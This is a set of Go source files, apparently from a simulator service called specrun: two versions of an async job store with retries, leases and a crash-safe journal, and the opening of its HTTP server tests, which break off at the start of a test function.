// of done, failed or cancelled.
const (
	JobRunning   = "running"
	JobDone      = "done"
	JobFailed    = "failed"
	JobCancelled = "cancelled"
)

// JobProgress counts completed grid points (total = 1 for driver jobs).
type JobProgress struct {
	Done  int `json:"done"`
	Total int `json:"total"`
}

// JobView is the wire form of a job (POST /v1/jobs, GET /v1/jobs/{id}).
type JobView struct {
	ID              string          `json:"id"`
	Kind            string          `json:"kind"` // driver name, or "sweep"
	Status          string          `json:"status"`
	Progress        JobProgress     `json:"progress"`
	Error           string          `json:"error,omitempty"`
	Result          json.RawMessage `json:"result,omitempty"` // present once done
	SubmittedAt     time.Time       `json:"submitted_at"`
	DurationSeconds float64         `json:"duration_seconds"`
}

// JobStats summarises the store for GET /v1/stats.
type JobStats struct {
	Submitted int `json:"submitted"`
	Running   int `json:"running"`
	Done      int `json:"done"`
	Failed    int `json:"failed"`
	Cancelled int `json:"cancelled"`
}

type job struct {
	id          string
	kind        string
	status      string
	done, total int
	errText     string
	result      []byte
	cancel      context.CancelFunc
	submitted   time.Time
	finished    time.Time
	// watchers receive view snapshots on every progress update; all are
	// closed when the job leaves JobRunning (the SSE stream's end-of-job
	// signal).  Sends never block: a slow subscriber misses intermediate
	// snapshots, not the close.
	watchers []chan JobView
}

// notify pushes the current view to every watcher and, on a terminal
// transition, closes them (caller holds the store lock).
func (j *job) notify() {
	if len(j.watchers) == 0 {
		return
	}
	v := j.view()
	for _, ch := range j.watchers {
		select {
		case ch <- v:
		default:
		}
	}
	if j.status != JobRunning {
		for _, ch := range j.watchers {
			close(ch)
		}
		j.watchers = nil
	}
}

// maxJobs bounds the store: once exceeded, the oldest finished jobs (and
// their result bodies) are dropped.  Running jobs are never evicted, so the
// store can transiently exceed the bound under extreme concurrency, but a
// long-lived server no longer accumulates every result ever computed.
const maxJobs = 256

// jobStore is the in-memory async-job registry.
type jobStore struct {
	mu        sync.Mutex
	jobs      map[string]*job
	order     []string // submission order for listing
	nextID    int
	submitted int // lifetime submissions (survives eviction)

	// logger receives job lifecycle transitions; onTerminal fires exactly
	// once per job, at the moment it leaves JobRunning (the server feeds
	// the specrun_jobs_total metric through it).  Both are set at server
	// construction, before any job exists.
	logger     *slog.Logger
	onTerminal func(kind, status string)
}

func newJobStore() *jobStore {
	return &jobStore{jobs: make(map[string]*job), logger: slog.New(slog.DiscardHandler)}
}

// terminal records a job's one transition out of JobRunning (caller holds
// s.mu and has already updated j).
func (s *jobStore) terminal(j *job) {
	s.logger.Info("job finished",
		"job", j.id,
		"kind", j.kind,
		"status", j.status,
		"error", j.errText,
		"duration_ms", float64(j.finished.Sub(j.submitted).Microseconds())/1000,
	)
	if s.onTerminal != nil {
		s.onTerminal(j.kind, j.status)
	}
}

// create registers a new running job and returns its id.
func (s *jobStore) create(kind string, cancel context.CancelFunc) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.nextID++
	s.submitted++
	id := "j" + strconv.Itoa(s.nextID)
	s.jobs[id] = &job{
		id:        id,
		kind:      kind,
		status:    JobRunning,
		total:     1,
		cancel:    cancel,
		submitted: time.Now(),
	}
	s.order = append(s.order, id)
	s.prune()
	s.logger.Info("job started", "job", id, "kind", kind)
	return id
}

// prune evicts the oldest terminal jobs past maxJobs (caller holds s.mu).
func (s *jobStore) prune() {
	for len(s.order) > maxJobs {
		evicted := false
		for i, id := range s.order {
			if s.jobs[id].status != JobRunning {
				delete(s.jobs, id)
				s.order = append(s.order[:i], s.order[i+1:]...)
				evicted = true
				break
			}
		}
		if !evicted {
			return // everything is still running
		}
	}
}

// progress updates the completed/total counters of a running job.
func (s *jobStore) progress(id string, done, total int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if j, ok := s.jobs[id]; ok && j.status == JobRunning {
		j.done, j.total = done, total
		j.notify()
	}
}

// watch subscribes to a job's lifecycle.  The returned channel yields view
// snapshots on progress and is closed when the job reaches (or was already
// in) a terminal state; read the final view with get.  The cancel function
// detaches an abandoned subscription.
func (s *jobStore) watch(id string) (<-chan JobView, func(), bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return nil, nil, false
	}
	ch := make(chan JobView, 16)
	if j.status != JobRunning {
		close(ch) // already terminal: subscribers go straight to the final view
		return ch, func() {}, true
	}
	j.watchers = append(j.watchers, ch)
	cancel := func() {
		s.mu.Lock()
		defer s.mu.Unlock()
		for i, w := range j.watchers {
			if w == ch {
				j.watchers = append(j.watchers[:i], j.watchers[i+1:]...)
				return
			}
		}
	}
	return ch, cancel, true
}

// finish moves a job to its terminal state.  A job already cancelled stays
// cancelled — DELETE won the race — but a successful result is still
// attached, since the simulation did complete.
func (s *jobStore) finish(id string, result []byte, errText string, cancelled bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return
	}
	wasRunning := j.status == JobRunning
	j.finished = time.Now()
	switch {
	case j.status == JobCancelled || cancelled:
		j.status = JobCancelled
	case errText != "":
		j.status = JobFailed
		j.errText = errText
		if wasRunning {
			s.terminal(j)
		}
		j.notify()
		return
	default:
		j.status = JobDone
		j.done = j.total
	}
	j.result = result
	if wasRunning {
		s.terminal(j)
	}
	j.notify()
}

// cancelJob cancels a running job.  It reports whether the id exists; a job
// already in a terminal state is left untouched.
func (s *jobStore) cancelJob(id string) (JobView, bool) {
	s.mu.Lock()
	j, ok := s.jobs[id]
	if !ok {
		s.mu.Unlock()
		return JobView{}, false
	}
	var cancel context.CancelFunc
	if j.status == JobRunning {
		j.status = JobCancelled
		j.finished = time.Now()
		cancel = j.cancel
		s.terminal(j)
		j.notify()
	}
	v := j.view()
	s.mu.Unlock()
	if cancel != nil {
		cancel()
	}
	return v, true
}

// view snapshots one job (nil cancel-func race is impossible: callers hold s.mu).
func (j *job) view() JobView {
	end := j.finished
	if end.IsZero() {
		end = time.Now()
	}
	return JobView{
		ID:              j.id,
		Kind:            j.kind,
		Status:          j.status,
		Progress:        JobProgress{Done: j.done, Total: j.total},
		Error:           j.errText,
		Result:          json.RawMessage(j.result),
		SubmittedAt:     j.submitted,
		DurationSeconds: end.Sub(j.submitted).Seconds(),
	}
}

// get snapshots a job by id.
func (s *jobStore) get(id string) (JobView, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return JobView{}, false
	}
	return j.view(), true
}

// list snapshots every job in submission order, without results (a listing
// of large sweep results would dwarf the useful payload).
func (s *jobStore) list() []JobView {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]JobView, 0, len(s.order))
	for _, id := range s.order {
		v := s.jobs[id].view()
		v.Result = nil
		out = append(out, v)
	}
	return out
}

// stats summarises the store.
func (s *jobStore) stats() JobStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	st := JobStats{Submitted: s.submitted}
	for _, j := range s.jobs {
		switch j.status {
		case JobRunning:
			st.Running++
		case JobDone:
			st.Done++
		case JobFailed:
			st.Failed++
		case JobCancelled:
			st.Cancelled++
		}
	}
	return st
}
