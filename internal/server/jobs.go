package server

import (
	"context"
	"encoding/json"
	"hash/fnv"
	"log/slog"
	"math"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Job statuses.  A job is born pending, is leased into running by the
// scheduler (usually immediately — the worker budget, not the queue, bounds
// concurrency), may bounce back to pending on a failed attempt or an
// expired lease, and ends in exactly one of done, failed or cancelled.
const (
	JobPending   = "pending"
	JobRunning   = "running"
	JobDone      = "done"
	JobFailed    = "failed"
	JobCancelled = "cancelled"
)

// JobProgress counts completed grid points (total = 1 for driver jobs).
type JobProgress struct {
	Done  int `json:"done"`
	Total int `json:"total"`
}

// JobView is the wire form of a job (POST /v1/jobs, GET /v1/jobs/{id}).
type JobView struct {
	ID              string          `json:"id"`
	Kind            string          `json:"kind"` // driver name, or "sweep"
	Status          string          `json:"status"`
	Progress        JobProgress     `json:"progress"`
	Attempts        int             `json:"attempts,omitempty"` // execution leases taken so far
	Error           string          `json:"error,omitempty"`
	Result          json.RawMessage `json:"result,omitempty"` // present once done
	SubmittedAt     time.Time       `json:"submitted_at"`
	DurationSeconds float64         `json:"duration_seconds"`
}

// JobStats summarises the store for GET /v1/stats.
type JobStats struct {
	Submitted     int    `json:"submitted"`
	Pending       int    `json:"pending"`
	Running       int    `json:"running"`
	Done          int    `json:"done"`
	Failed        int    `json:"failed"`
	Cancelled     int    `json:"cancelled"`
	Retries       uint64 `json:"retries"`        // attempts re-queued after a failure
	LeaseExpiries uint64 `json:"lease_expiries"` // leases reclaimed by the watchdog
}

// RetryPolicy governs re-execution of failed job attempts.  Every
// simulation is deterministic and content-addressed, so re-running an
// attempt is always safe (at-least-once semantics collapse to
// exactly-once results); the policy only bounds how hard the server tries.
type RetryPolicy struct {
	// MaxAttempts is the total number of leases a job may consume,
	// including the first (0 selects 3; 1 disables retries).
	MaxAttempts int `json:"max_attempts,omitempty"`
	// BaseDelay is the backoff before the second attempt (0 = 250ms);
	// each further attempt multiplies it by Multiplier (0 = 2), capped at
	// MaxDelay (0 = 15s).
	BaseDelay  time.Duration `json:"base_delay,omitempty"`
	MaxDelay   time.Duration `json:"max_delay,omitempty"`
	Multiplier float64       `json:"multiplier,omitempty"`
	// Jitter spreads the delay by ±Jitter fraction, deterministically per
	// (job, attempt) so schedules are reproducible (0 selects 0.2;
	// negative disables).
	Jitter float64 `json:"jitter,omitempty"`
}

func (p RetryPolicy) withDefaults() RetryPolicy {
	if p.MaxAttempts <= 0 {
		p.MaxAttempts = 3
	}
	if p.BaseDelay <= 0 {
		p.BaseDelay = 250 * time.Millisecond
	}
	if p.MaxDelay <= 0 {
		p.MaxDelay = 15 * time.Second
	}
	if p.Multiplier <= 0 {
		p.Multiplier = 2
	}
	if p.Jitter == 0 {
		p.Jitter = 0.2
	} else if p.Jitter < 0 {
		p.Jitter = 0
	}
	return p
}

// delay returns the backoff after a failed attempt (attempt >= 1).  The
// jitter is a hash of (jobID, attempt), not a random draw: restarting the
// server reproduces the same schedule.
func (p RetryPolicy) delay(jobID string, attempt int) time.Duration {
	d := float64(p.BaseDelay) * math.Pow(p.Multiplier, float64(attempt-1))
	if d > float64(p.MaxDelay) {
		d = float64(p.MaxDelay)
	}
	if p.Jitter > 0 {
		h := fnv.New64a()
		h.Write([]byte(jobID))
		h.Write([]byte{':'})
		h.Write([]byte(strconv.Itoa(attempt)))
		f := float64(h.Sum64()%2048)/1024 - 1 // [-1, +1)
		d *= 1 + f*p.Jitter
	}
	if d < 0 {
		d = 0
	}
	return time.Duration(d)
}

// defaultLeaseTTL is how long an attempt may run without renewing its lease
// (progress callbacks renew) before the watchdog reclaims the job.
const defaultLeaseTTL = 60 * time.Second

// jobEvent is one SSE-observable transition: a view snapshot tagged with
// the job's monotonic sequence number (the SSE event id, so clients can
// resume with Last-Event-ID).
type jobEvent struct {
	Seq  int
	View JobView
}

type job struct {
	id          string
	kind        string
	status      string
	done, total int
	errText     string
	result      []byte
	cacheKey    string // content address of the result, when cached
	cancel      context.CancelFunc
	submitted   time.Time
	finished    time.Time

	// Durable-execution state: req re-dispatches the job on retry or
	// resume; attempt counts leases taken; nextRunAt delays a retried
	// pending job; leaseUntil is the running attempt's deadline;
	// cancelRequested marks a user DELETE (vs a server shutdown); corrupt
	// marks a journal-restored job whose request no longer parses.
	req             JobRequest
	attempt         int
	nextRunAt       time.Time
	leaseUntil      time.Time
	cancelRequested bool
	corrupt         bool

	// seq numbers every observable transition; watchers receive tagged
	// snapshots and are closed when the job reaches a terminal state.
	// Sends never block: a slow subscriber misses intermediate snapshots,
	// not the close.
	seq      int
	watchers []chan jobEvent
}

func (j *job) terminalStatus() bool {
	return j.status != JobRunning && j.status != JobPending
}

// notify pushes the current view to every watcher and, on a terminal
// transition, closes them (caller holds the store lock).  The sequence
// number advances even with no watchers, so SSE ids stay monotonic across
// reconnects.
func (j *job) notify() {
	j.seq++
	if len(j.watchers) == 0 {
		return
	}
	ev := jobEvent{Seq: j.seq, View: j.view()}
	for _, ch := range j.watchers {
		select {
		case ch <- ev:
		default:
		}
	}
	if j.terminalStatus() {
		for _, ch := range j.watchers {
			close(ch)
		}
		j.watchers = nil
	}
}

// maxJobs bounds the store: once exceeded, the oldest finished jobs (and
// their result bodies) are dropped.  Pending and running jobs are never
// evicted, so the store can transiently exceed the bound under extreme
// concurrency, but a long-lived server no longer accumulates every result
// ever computed.
const maxJobs = 256

// jobStore is the async-job registry: in-memory state of record, with an
// optional append-only journal that makes submissions durable across
// crashes.
type jobStore struct {
	mu        sync.Mutex
	jobs      map[string]*job
	order     []string // submission order for listing and scheduling
	nextID    int
	submitted int // lifetime submissions (survives eviction)

	policy        RetryPolicy
	leaseTTL      time.Duration
	retries       uint64
	leaseExpiries uint64

	// journal, when set, records every lifecycle transition (nil = memory
	// only).  Appends happen outside s.mu — the record is built under the
	// lock, written after release — so journal IO never blocks the store.
	journal *journal

	// logger receives job lifecycle transitions; onTerminal fires exactly
	// once per job, at the moment it reaches a terminal state (the server
	// feeds the specrun_jobs_total metric through it).  Both are set at
	// server construction, before any job exists.
	logger     *slog.Logger
	onTerminal func(kind, status string)
}

func newJobStore() *jobStore {
	return &jobStore{
		jobs:     make(map[string]*job),
		policy:   RetryPolicy{}.withDefaults(),
		leaseTTL: defaultLeaseTTL,
		logger:   slog.New(slog.DiscardHandler),
	}
}

// terminal records a job's transition into a terminal state (caller holds
// s.mu and has already updated j).
func (s *jobStore) terminal(j *job) {
	s.logger.Info("job finished",
		"job", j.id,
		"kind", j.kind,
		"status", j.status,
		"error", j.errText,
		"attempts", j.attempt,
		"duration_ms", float64(j.finished.Sub(j.submitted).Microseconds())/1000,
	)
	if s.onTerminal != nil {
		s.onTerminal(j.kind, j.status)
	}
}

// create registers a new pending job and returns its id.  The submit record
// is fsynced: an acknowledged submission survives kill -9.
func (s *jobStore) create(kind string, req JobRequest) string {
	now := time.Now()
	s.mu.Lock()
	s.nextID++
	s.submitted++
	id := "j" + strconv.Itoa(s.nextID)
	s.jobs[id] = &job{
		id:        id,
		kind:      kind,
		status:    JobPending,
		total:     1,
		req:       req,
		submitted: now,
	}
	s.order = append(s.order, id)
	s.prune()
	s.mu.Unlock()
	s.logger.Info("job submitted", "job", id, "kind", kind)
	raw, err := json.Marshal(req)
	if err != nil {
		raw = nil
	}
	s.journal.append(journalRecord{T: recSubmit, Job: id, At: nowMilli(now), Kind: kind, Req: raw}, true)
	return id
}

// prune evicts the oldest terminal jobs past maxJobs (caller holds s.mu).
func (s *jobStore) prune() {
	for len(s.order) > maxJobs {
		evicted := false
		for i, id := range s.order {
			if s.jobs[id].terminalStatus() {
				delete(s.jobs, id)
				s.order = append(s.order[:i], s.order[i+1:]...)
				evicted = true
				break
			}
		}
		if !evicted {
			return // everything is still pending or running
		}
	}
}

// leasedJob is one granted execution lease: what the runner goroutine needs
// to dispatch and to report back without racing a newer attempt.
type leasedJob struct {
	id      string
	kind    string
	attempt int
	req     JobRequest
	ctx     context.Context
	cancel  context.CancelFunc
}

// leaseNext grants a lease on the earliest-submitted due pending job, if
// any: the job moves to running, its attempt counter advances, and its
// lease deadline starts.  newCtx builds the attempt's context while the
// lock is held, so a concurrent cancel always finds the cancel func.
func (s *jobStore) leaseNext(now time.Time, newCtx func() (context.Context, context.CancelFunc)) (leasedJob, bool) {
	s.mu.Lock()
	var pick *job
	for _, id := range s.order {
		j := s.jobs[id]
		if j.status == JobPending && !j.corrupt && !j.nextRunAt.After(now) {
			pick = j
			break
		}
	}
	if pick == nil {
		s.mu.Unlock()
		return leasedJob{}, false
	}
	ctx, cancel := newCtx()
	pick.status = JobRunning
	pick.attempt++
	pick.leaseUntil = now.Add(s.leaseTTL)
	pick.cancel = cancel
	pick.notify()
	lj := leasedJob{id: pick.id, kind: pick.kind, attempt: pick.attempt, req: pick.req, ctx: ctx, cancel: cancel}
	s.mu.Unlock()
	s.logger.Info("job leased", "job", lj.id, "kind", lj.kind, "attempt", lj.attempt)
	s.journal.append(journalRecord{T: recLease, Job: lj.id, At: nowMilli(now), Attempt: lj.attempt}, false)
	return lj, true
}

// reclaimExpired is the lease watchdog: every running job whose lease
// deadline has passed is cancelled and either re-queued (attempts remain)
// or failed.  The collected cancel funcs are returned for the caller to
// invoke outside the lock.
func (s *jobStore) reclaimExpired(now time.Time) []context.CancelFunc {
	var cancels []context.CancelFunc
	var recs []journalRecord
	s.mu.Lock()
	for _, id := range s.order {
		j := s.jobs[id]
		if j.status != JobRunning || j.leaseUntil.IsZero() || !j.leaseUntil.Before(now) {
			continue
		}
		s.leaseExpiries++
		if j.cancel != nil {
			cancels = append(cancels, j.cancel)
			j.cancel = nil
		}
		if j.attempt < s.policy.MaxAttempts {
			s.retries++
			j.status = JobPending
			j.errText = "lease expired on attempt " + strconv.Itoa(j.attempt)
			j.nextRunAt = now.Add(s.policy.delay(j.id, j.attempt))
			j.leaseUntil = time.Time{}
			recs = append(recs, journalRecord{
				T: recRetry, Job: id, At: nowMilli(now),
				Attempt: j.attempt, Error: j.errText, Next: nowMilli(j.nextRunAt),
			})
			s.logger.Warn("job lease expired; requeued", "job", id, "attempt", j.attempt, "next_run", j.nextRunAt)
		} else {
			j.status = JobFailed
			j.finished = now
			j.errText = "lease expired after " + strconv.Itoa(j.attempt) + " attempts"
			recs = append(recs, journalRecord{T: recFailed, Job: id, At: nowMilli(now), Error: j.errText})
			s.terminal(j)
			s.logger.Warn("job lease expired; attempts exhausted", "job", id, "attempts", j.attempt)
		}
		j.notify()
	}
	s.mu.Unlock()
	for _, r := range recs {
		s.journal.append(r, r.T == recFailed)
	}
	return cancels
}

// progress updates the completed/total counters of a running attempt and
// renews its lease — progress is the heartbeat.  Stale attempts (a newer
// lease exists) are ignored.
func (s *jobStore) progress(id string, attempt, done, total int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok || j.status != JobRunning || j.attempt != attempt {
		return
	}
	j.done, j.total = done, total
	j.leaseUntil = time.Now().Add(s.leaseTTL)
	j.notify()
}

// watch subscribes to a job's lifecycle.  The returned channel yields
// sequence-tagged view snapshots on every transition and is closed when the
// job reaches (or was already in) a terminal state; read the final view
// with viewSeq.  The cancel function detaches an abandoned subscription.
func (s *jobStore) watch(id string) (<-chan jobEvent, func(), bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return nil, nil, false
	}
	ch := make(chan jobEvent, 16)
	if j.terminalStatus() {
		close(ch) // already terminal: subscribers go straight to the final view
		return ch, func() {}, true
	}
	j.watchers = append(j.watchers, ch)
	cancel := func() {
		s.mu.Lock()
		defer s.mu.Unlock()
		for i, w := range j.watchers {
			if w == ch {
				j.watchers = append(j.watchers[:i], j.watchers[i+1:]...)
				return
			}
		}
	}
	return ch, cancel, true
}

// finish reports the outcome of one attempt.  Stale reports — the job was
// cancelled, or the watchdog already re-leased it — are dropped, except
// that a partial result may still attach to a cancelled job (the
// simulation's completed points are real).  A failed attempt re-queues the
// job with backoff while attempts remain; terminal transitions journal
// with fsync.
func (s *jobStore) finish(id string, attempt int, key string, result []byte, errText string, cancelled bool) {
	now := time.Now()
	var rec *journalRecord
	fsyncRec := false
	s.mu.Lock()
	j, ok := s.jobs[id]
	if !ok {
		s.mu.Unlock()
		return
	}
	if j.status != JobRunning || j.attempt != attempt {
		// DELETE won the race: keep the cancelled status but attach the
		// partial result the runner salvaged.
		if j.status == JobCancelled && j.attempt == attempt && len(result) > 0 && len(j.result) == 0 {
			j.result = result
		}
		s.mu.Unlock()
		return
	}
	switch {
	case cancelled && !j.cancelRequested && s.journal != nil:
		// Shutdown-cancel on a durable store: leave the lease on the
		// journal so the next boot reclaims the job as pending.  This
		// process is exiting; its in-memory "running" status dies with it.
		s.mu.Unlock()
		return
	case cancelled:
		j.status = JobCancelled
		j.finished = now
		j.result = result
		rec = &journalRecord{T: recCancelled, Job: id, At: nowMilli(now)}
		fsyncRec = true
		s.terminal(j)
	case errText != "" && j.attempt < s.policy.MaxAttempts:
		s.retries++
		j.status = JobPending
		j.errText = errText
		j.nextRunAt = now.Add(s.policy.delay(id, j.attempt))
		j.leaseUntil = time.Time{}
		j.cancel = nil
		rec = &journalRecord{
			T: recRetry, Job: id, At: nowMilli(now),
			Attempt: j.attempt, Error: errText, Next: nowMilli(j.nextRunAt),
		}
		s.logger.Warn("job attempt failed; requeued", "job", id, "attempt", j.attempt, "error", errText, "next_run", j.nextRunAt)
	case errText != "":
		j.status = JobFailed
		j.finished = now
		j.errText = errText
		rec = &journalRecord{T: recFailed, Job: id, At: nowMilli(now), Error: errText}
		fsyncRec = true
		s.terminal(j)
	default:
		j.status = JobDone
		j.finished = now
		j.errText = ""
		j.done = j.total
		j.result = result
		j.cacheKey = key
		rec = &journalRecord{T: recDone, Job: id, At: nowMilli(now), Key: key}
		if len(result) <= journalInlineResultMax {
			rec.Result = result
		}
		fsyncRec = true
		s.terminal(j)
	}
	j.notify()
	s.mu.Unlock()
	if rec != nil {
		s.journal.append(*rec, fsyncRec)
	}
}

// cancelJob cancels a pending or running job.  It reports whether the id
// exists; a job already in a terminal state is left untouched.
func (s *jobStore) cancelJob(id string) (JobView, bool) {
	now := time.Now()
	s.mu.Lock()
	j, ok := s.jobs[id]
	if !ok {
		s.mu.Unlock()
		return JobView{}, false
	}
	var cancel context.CancelFunc
	var rec *journalRecord
	if !j.terminalStatus() {
		j.cancelRequested = true
		j.status = JobCancelled
		j.finished = now
		cancel = j.cancel
		j.cancel = nil
		s.terminal(j)
		j.notify()
		rec = &journalRecord{T: recCancelled, Job: id, At: nowMilli(now)}
	}
	v := j.view()
	s.mu.Unlock()
	if cancel != nil {
		cancel()
	}
	if rec != nil {
		s.journal.append(*rec, true)
	}
	return v, true
}

// restore rebuilds the store from replayed journal records (called once at
// startup, before the journal is attached and before any scheduling).  Jobs
// whose last record is a lease were running when the previous process died:
// they re-queue as pending — unless that lease was their final permitted
// attempt.  Completed jobs restore as done and are never re-leased; a done
// record without an inline result recovers it from the cache via lookup.
func (s *jobStore) restore(recs []journalRecord, lookup func(key string) ([]byte, bool)) {
	now := time.Now()
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, rec := range recs {
		j := s.jobs[rec.Job]
		if rec.T == recSubmit {
			if j != nil {
				continue // duplicate submit: first record wins
			}
			j = &job{
				id:        rec.Job,
				kind:      rec.Kind,
				status:    JobPending,
				total:     1,
				submitted: time.UnixMilli(rec.At),
			}
			if len(rec.Req) == 0 || json.Unmarshal(rec.Req, &j.req) != nil {
				j.corrupt = true
				j.status = JobFailed
				j.finished = now
				j.errText = "journal: job request no longer parses"
				s.logger.Warn("journal: dropping unreadable job request", "job", rec.Job)
			}
			s.jobs[rec.Job] = j
			s.order = append(s.order, rec.Job)
			s.submitted++
			if n, err := strconv.Atoi(strings.TrimPrefix(rec.Job, "j")); err == nil && n > s.nextID {
				s.nextID = n
			}
			continue
		}
		if j == nil || j.corrupt {
			continue
		}
		switch rec.T {
		case recLease:
			j.attempt = rec.Attempt
			if j.attempt >= s.policy.MaxAttempts {
				j.status = JobFailed
				j.finished = now
				j.errText = "crashed during final attempt " + strconv.Itoa(j.attempt)
			} else {
				j.status = JobPending
				j.errText = "interrupted on attempt " + strconv.Itoa(j.attempt)
				j.nextRunAt = time.Time{}
			}
		case recRetry:
			j.status = JobPending
			j.attempt = rec.Attempt
			j.errText = rec.Error
			j.nextRunAt = time.UnixMilli(rec.Next)
		case recDone:
			j.status = JobDone
			j.finished = time.UnixMilli(rec.At)
			j.errText = ""
			j.done = j.total
			j.cacheKey = rec.Key
			j.result = rec.Result
			if len(j.result) == 0 && rec.Key != "" && lookup != nil {
				if b, ok := lookup(rec.Key); ok {
					j.result = b
				}
			}
		case recFailed:
			j.status = JobFailed
			j.finished = time.UnixMilli(rec.At)
			j.errText = rec.Error
		case recCancelled:
			j.status = JobCancelled
			j.finished = time.UnixMilli(rec.At)
		}
	}
	s.prune()
	var pending, terminalCount int
	for _, j := range s.jobs {
		if j.status == JobPending {
			pending++
		} else if j.terminalStatus() {
			terminalCount++
		}
	}
	if len(s.jobs) > 0 {
		s.logger.Info("journal: restored jobs", "total", len(s.jobs), "pending", pending, "terminal", terminalCount)
	}
}

// snapshotRecords serialises the store back into minimal journal records —
// the compaction image written at startup, which drops evicted jobs and
// collapses each survivor to at most two records.
func (s *jobStore) snapshotRecords() []journalRecord {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]journalRecord, 0, 2*len(s.order))
	for _, id := range s.order {
		j := s.jobs[id]
		raw, err := json.Marshal(j.req)
		if err != nil {
			raw = nil
		}
		out = append(out, journalRecord{T: recSubmit, Job: id, At: nowMilli(j.submitted), Kind: j.kind, Req: raw})
		switch j.status {
		case JobPending:
			if j.attempt > 0 {
				out = append(out, journalRecord{
					T: recRetry, Job: id, At: nowMilli(j.submitted),
					Attempt: j.attempt, Error: j.errText, Next: nowMilli(j.nextRunAt),
				})
			}
		case JobRunning:
			out = append(out, journalRecord{T: recLease, Job: id, Attempt: j.attempt})
		case JobDone:
			rec := journalRecord{T: recDone, Job: id, At: nowMilli(j.finished), Key: j.cacheKey}
			if len(j.result) <= journalInlineResultMax {
				rec.Result = j.result
			}
			out = append(out, rec)
		case JobFailed:
			out = append(out, journalRecord{T: recFailed, Job: id, At: nowMilli(j.finished), Error: j.errText})
		case JobCancelled:
			out = append(out, journalRecord{T: recCancelled, Job: id, At: nowMilli(j.finished)})
		}
	}
	return out
}

func (s *jobStore) closeJournal() {
	s.journal.close()
}

// journalCounters reports (records appended, write errors) for metrics.
func (s *jobStore) journalCounters() (uint64, uint64) {
	if s.journal == nil {
		return 0, 0
	}
	return s.journal.records.Load(), s.journal.writeErrs.Load()
}

// view snapshots one job (caller holds s.mu).
func (j *job) view() JobView {
	end := j.finished
	if end.IsZero() {
		end = time.Now()
	}
	return JobView{
		ID:              j.id,
		Kind:            j.kind,
		Status:          j.status,
		Progress:        JobProgress{Done: j.done, Total: j.total},
		Attempts:        j.attempt,
		Error:           j.errText,
		Result:          json.RawMessage(j.result),
		SubmittedAt:     j.submitted,
		DurationSeconds: end.Sub(j.submitted).Seconds(),
	}
}

// get snapshots a job by id.
func (s *jobStore) get(id string) (JobView, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return JobView{}, false
	}
	return j.view(), true
}

// viewSeq snapshots a job together with its event sequence number (the SSE
// handler's Last-Event-ID replay anchor).
func (s *jobStore) viewSeq(id string) (JobView, int, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	j, ok := s.jobs[id]
	if !ok {
		return JobView{}, 0, false
	}
	return j.view(), j.seq, true
}

// list snapshots every job in submission order, without results (a listing
// of large sweep results would dwarf the useful payload).
func (s *jobStore) list() []JobView {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]JobView, 0, len(s.order))
	for _, id := range s.order {
		v := s.jobs[id].view()
		v.Result = nil
		out = append(out, v)
	}
	return out
}

// stats summarises the store.
func (s *jobStore) stats() JobStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	st := JobStats{
		Submitted:     s.submitted,
		Retries:       s.retries,
		LeaseExpiries: s.leaseExpiries,
	}
	for _, j := range s.jobs {
		switch j.status {
		case JobPending:
			st.Pending++
		case JobRunning:
			st.Running++
		case JobDone:
			st.Done++
		case JobFailed:
			st.Failed++
		case JobCancelled:
			st.Cancelled++
		}
	}
	return st
}
