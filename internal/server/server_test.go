package server

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"sync"
	"testing"
	"time"

	"specrun/internal/attack"
	"specrun/internal/core"
)

// newTestServer starts a fresh service over httptest.
func newTestServer(t *testing.T) (*Server, *httptest.Server) {
	t.Helper()
	s := New(Options{})
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		ts.Close()
		s.Close()
	})
	return s, ts
}

// do issues one request and returns the status, headers and body.
func do(t *testing.T, method, url, body string) (int, http.Header, []byte) {
	t.Helper()
	req, err := http.NewRequest(method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, b
}

func TestHealthz(t *testing.T) {
	_, ts := newTestServer(t)
	code, _, body := do(t, "GET", ts.URL+"/healthz", "")
	if code != http.StatusOK || !bytes.Contains(body, []byte(`"ok"`)) {
		t.Fatalf("healthz: %d %s", code, body)
	}
}

func TestConfigEndpoint(t *testing.T) {
	_, ts := newTestServer(t)
	code, _, body := do(t, "GET", ts.URL+"/v1/config", "")
	if code != http.StatusOK {
		t.Fatalf("config: %d %s", code, body)
	}
	var resp ConfigResponse
	if err := json.Unmarshal(body, &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Config.ROBSize != 256 || !strings.Contains(resp.Table1, "Table 1") {
		t.Fatalf("config body: rob=%d table1=%q", resp.Config.ROBSize, resp.Table1[:40])
	}
	// Every run driver plus the fuzz campaign and program endpoints.
	if len(resp.Drivers) != len(drivers)+2 {
		t.Fatalf("drivers listed: %d, want %d", len(resp.Drivers), len(drivers)+2)
	}
	if last := resp.Drivers[len(resp.Drivers)-1]; last.Endpoint != "/v1/run/program" {
		t.Fatalf("last driver endpoint = %q, want /v1/run/program", last.Endpoint)
	}
}

// TestRunEndpointsMatchDrivers asserts the byte-identity contract: every run
// endpoint's body is exactly the canonical encoding of the corresponding
// driver result (which is also what the CLI's --format json prints).
func TestRunEndpointsMatchDrivers(t *testing.T) {
